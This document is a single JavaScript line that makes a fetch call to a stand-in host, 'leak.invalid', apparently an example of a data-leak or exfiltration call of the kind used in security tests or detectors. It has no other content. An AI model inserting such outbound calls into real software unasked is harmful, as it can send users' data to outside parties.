fetch("http://leak.invalid/content");
